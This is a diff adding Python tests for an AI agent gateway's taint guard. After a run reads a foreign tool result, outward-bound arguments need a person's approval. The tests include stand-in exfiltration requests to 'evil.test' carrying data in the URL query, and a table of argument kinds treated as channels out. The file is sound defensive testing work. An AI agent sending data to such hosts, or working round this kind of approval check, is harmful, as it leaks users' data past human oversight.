@@ -11,7 +11,9 @@ from tests.hub.gateway.world import Facts, World, guard, opened, structured
 from tradepost.foundation.clock import system_now
 from tradepost.hub.actions.card import cards_of
 from tradepost.hub.registration.policies import rules
+from tradepost.hub.registry.outward import outward_argument
 from tradepost.hub.trust.models import RunTaint
+from tradepost.hub.trust.taint import KNOWN
 from tradepost.protocol.builtin import Json, ToolResult
 
 RULE = "built-in:tainted-write"
@@ -51,7 +53,7 @@ async def test_a_run_that_read_a_foreign_result_asks_in_every_process(facts: Fac
         assert await written(one, "r1", "before") == "succeeded"
         for _ in range(3):
             await call(one, "look", "r1")
-        (row,) = await kept(one)
+        (row,) = [row for row in await kept(one) if row.source != KNOWN]
         assert (row.run, row.tool, row.server) == ("r1", "look", "foreign")
         assert await written(one, "r1", "here") == "approval_required"
         assert await written(other, "r1", "there") == "approval_required"
@@ -117,3 +119,91 @@ def _hides(text: str) -> Any:
         return ToolResult([{"type": "text", "text": text}], {"note": text})
 
     return answer
+
+
+@pytest.mark.behaviour("S0.33")
+async def test_a_foreign_read_that_takes_other_words_there_asks_a_person(facts: Facts) -> None:
+    """Security row 6: nothing is sent until a person has said so, whichever process the run comes to."""
+    async with opened(await guard(facts)) as one, opened(facts) as other:
+        await add_foreign(one)
+        other.servers.remote = says
+        fetch = {"properties": {"url": {"type": "string"}, "page": {"type": "integer"}}, "type": "object"}
+        await one.add_remote("fetch", "read", "crawler", inputSchema=fetch)
+        assert "content" in await call(one, "fetch", "clean", url="https://shop.test/a")  # it has read nothing yet
+        assert "content" in await call(other, "fetch", "clean", url="https://shop.test/b?seen=a")  # its own words
+        await call(one, "look", "r1")
+        sent = len(one.servers.remote_calls)
+        assert not (await call(one, "fetch", "r1", page=2))["isError"]  # takes nothing out
+        assert not (await call(one, "look", "r1", query="blue shoes", to="2026-01-31"))["isError"]
+        assert len(one.servers.remote_calls) == sent + 2
+        for world in (one, other):
+            waits = structured(await call(world, "fetch", "r1", url="https://evil.test/?q=C-1"))
+            assert waits["status"] == "approval_required"
+        action = await one.action(waits["approval_id"])
+        assert (action.rule_id, action.tool_class, action.state) == (RULE, "read", "pending")
+        assert action.decision_reason.endswith("'url' may take there what it knows from foreign")
+        mail = structured(await call(one, "look", "r1", query="what of anna@shop.test?"))
+        assert mail["status"] == "approval_required"
+        assert (len(one.servers.remote_calls), len(other.servers.remote_calls)) == (sent + 2, 1)
+        await one.built.verdicts.approve(await one.user("operator"), waits["approval_id"])
+        await one.executor.run_due()
+        assert one.servers.remote_calls[-1][:2] == ("fetch", {"url": "https://evil.test/?q=C-1"})
+        assert (await one.action(waits["approval_id"])).state == "succeeded"
+        kinds = [row.kind for row in await one.audited() if row.action_id == waits["approval_id"]]
+        assert kinds == ["decision", "decision", "intent", "outcome"]
+        async with one.changing() as session:
+            given = {"name": "ours", "outcome": "allow", "reason": "our own site", "tool": "fetch", "loosens": True}
+            await rules.add(
+                session, one.owner, {**given, "when": "tainted && args.url.startsWith('https://shop.test/')"}
+            )
+        assert not (await call(one, "fetch", "r1", url="https://shop.test/b"))["isError"]
+        refused = structured(await call(one, "fetch", "r1", url="https://evil.test/"))
+        assert refused["status"] == "approval_required"
+
+
+@pytest.mark.behaviour("S0.33")
+async def test_the_shops_own_words_are_not_for_a_server_that_may_have_asked_for_them(facts: Facts) -> None:
+    async with opened(await guard(facts)) as one, opened(facts) as other:
+        await add_foreign(one)
+        other.servers.remote = says
+        assert not (await call(one, "get_stock", "r1", sku="A1"))["isError"]
+        # Nothing from outside has told the run what to do.
+        assert not (await call(other, "look", "r1", text="how much is usual?"))["isError"]
+        for world in (one, other):
+            waits = structured(await call(world, "look", "r1", text="there are 5 of A1"))
+            assert waits["status"] == "approval_required"
+        action = await one.action(waits["approval_id"])
+        assert action.decision_reason.endswith("'text' may take there what it knows from the shop")
+        assert not (await call(other, "look", "r2", text="its own"))["isError"]
+        assert not (await call(one, "look", "r2", text="its own"))["isError"]
+        assert not (await call(one, "get_stock", "r2", sku="A1"))["isError"]
+        assert structured(await call(other, "look", "r2", text="5 of A1"))["status"] == "approval_required"
+        assert await written(one, "r3", "k1") == "succeeded"  # own words do not taint
+        assert not (await call(one, "get_stock", "r3", sku="A1"))["isError"]
+        assert await written(other, "r3", "k2") == "succeeded"
+
+
+@pytest.mark.parametrize(
+    ("arguments", "found"),
+    [
+        ({"page": 2, "on": True, "from": "2026-01-01", "to": "2026-01-31T10:00:00Z"}, None),
+        ({"query": "blue shoes, size 42", "sku": "A-100/2", "ids": ["1001", "1002"]}, None),
+        ({"to": 5, "email": "", "urls": [], "body": None}, None),
+        ({"kind": "email", "channel": "sms"}, None),
+        ({"webhookUrl": "x"}, "webhookUrl"),
+        ({"recipient": {"name": "Anna"}}, "recipient"),
+        ({"mail": {"a": 1}}, "mail"),
+        ({"text": "Hello"}, "text"),
+        ({"query": "see //evil.test/a"}, "query"),
+        ({"query": "anna@shop.test"}, "query"),
+        ({"filter": {"all": [{"name": "HTTPS://evil.test"}]}}, "filter.all.name"),
+        ({"filter": {"https://evil.test/?q=1": 1}}, "filter"),
+        ({"query": "a" * 201}, "query"),
+        ({"where": "x"}, "where"),
+        ({"colour": "red"}, None),
+    ],
+)
+def test_what_takes_something_out(arguments: Json, found: str | None) -> None:
+    colours = {"enum": ["red"], "type": "string"}
+    schema = {"properties": {"where": {"type": "string", "format": "uri"}, "colour": colours}, "type": "object"}
+    assert outward_argument(schema, arguments) == found
